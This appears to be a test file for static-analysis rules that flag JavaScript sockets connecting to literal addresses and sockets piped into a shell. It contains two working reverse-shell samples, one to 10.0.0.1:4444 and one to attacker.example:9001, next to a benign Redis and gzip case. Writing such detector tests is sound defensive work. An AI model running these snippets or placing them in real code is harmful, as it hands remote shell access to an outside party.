const net = require("net");
const cp = require("child_process");

function shell() {
  const sh = cp.spawn("/bin/sh", []);
  // ruleid: js-socket-literal-address
  const client = net.connect(4444, "10.0.0.1", () => {
    // ruleid: js-socket-to-shell
    client.pipe(sh.stdin);
    // ruleid: js-socket-to-shell
    sh.stdout.pipe(client);
  });
}

function shell2() {
  const c = new net.Socket();
  // ruleid: js-socket-literal-address
  c.connect(9001, "attacker.example", function () {
    const p = cp.spawn("bash", ["-i"]);
    // ruleid: js-socket-to-shell
    c.pipe(p.stdin);
    // ruleid: js-socket-to-shell
    p.stderr.pipe(c);
  });
}

function benign(event) {
  // ok: js-socket-literal-address
  const s = net.connect(Number(process.env.REDIS_PORT), process.env.REDIS_HOST);
  const gz = cp.spawn("gzip", ["-c"]);
  // ok: js-socket-to-shell
  gz.stdout.pipe(event.res);
  return s;
}
